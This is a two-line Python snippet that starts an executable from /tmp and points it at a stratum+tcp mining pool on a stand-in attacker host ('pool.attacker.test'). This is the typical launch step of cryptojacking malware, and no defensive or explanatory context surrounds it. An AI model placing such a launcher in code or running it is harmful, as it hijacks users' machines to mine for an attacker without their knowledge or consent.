import subprocess
subprocess.Popen(["/tmp/x", "-o", "stratum+tcp://pool.attacker.test:3333"])
